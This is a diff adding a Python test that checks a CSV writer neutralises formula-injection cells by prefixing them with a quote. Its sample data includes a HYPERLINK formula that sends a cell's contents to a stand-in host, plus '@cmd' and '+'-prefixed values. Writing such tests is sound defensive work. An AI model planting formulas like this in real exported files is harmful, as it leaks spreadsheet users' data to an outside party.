@@ -60,3 +60,18 @@ def test_a_score_reads_as_its_metric_and_says_which_it_is():
     assert formats.scored("val", 0.012345, "mae") == "val mae 0.01235"
     assert formats.scored("val", 2.71828, "bits_per_byte") == "val bits_per_byte 2.718"
     assert formats.score(None, "mse") == "-" and formats.score(0.5, "r2") == "0.5000"
+
+
+def test_csv_cells_a_spreadsheet_would_run_open_as_text():
+    stream = io.StringIO()
+    rows = [
+        {"name": '=HYPERLINK("http://x.example/?"&A1,"click")', "val": -0.5, "note": "+1", "who": "@cmd"},
+        {"name": "\tTAB", "val": 0.25, "note": "-2+3", "who": "\rCR"},
+        {"name": "plain", "val": None, "note": "a=b", "who": ["x"]},
+    ]
+    formats.write_csv(stream, rows, ["name", "val", "note", "who"])
+    read = list(csv.DictReader(io.StringIO(stream.getvalue())))
+    assert [r["name"] for r in read] == ['\'=HYPERLINK("http://x.example/?"&A1,"click")', "'\tTAB", "plain"]
+    assert [r["note"] for r in read] == ["'+1", "'-2+3", "a=b"]
+    assert [r["who"] for r in read] == ["'@cmd", "'\rCR", '["x"]']
+    assert [r["val"] for r in read] == ["-0.5", "0.25", ""]  # numbers stay numbers, negative ones too
